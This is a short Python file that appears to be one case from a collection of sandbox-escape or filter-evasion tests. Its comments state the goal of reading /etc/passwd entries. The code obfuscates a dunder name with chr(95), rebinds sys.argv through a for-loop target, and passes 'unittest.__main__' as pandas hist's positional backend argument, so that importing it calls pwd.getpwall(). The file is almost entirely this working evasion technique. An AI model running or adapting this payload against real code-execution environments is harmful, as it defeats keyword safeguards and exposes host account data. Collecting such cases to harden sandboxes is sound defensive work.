# source: pandas 1.5 Series.hist (backend 10th positional) + CPython Lib/unittest/__main__.py (runs on import, reads sys.argv) + unittest loader calling a named callable
# family: refused keyword by position + sys.argv replaced by a for-loop target
# goal: unittest imports pwd and calls pwd.getpwall(): /etc/passwd entries printed in the error message
import sys
import pandas as pd

for sys.argv in [["strategy", "pwd.getpwall"]]:
    pass
u = chr(95) * 2
returns = pd.Series([0.01, -0.02, 0.015])
returns.hist(None, None, True, None, None, None, None, None, 10, "unittest." + u + "main" + u)
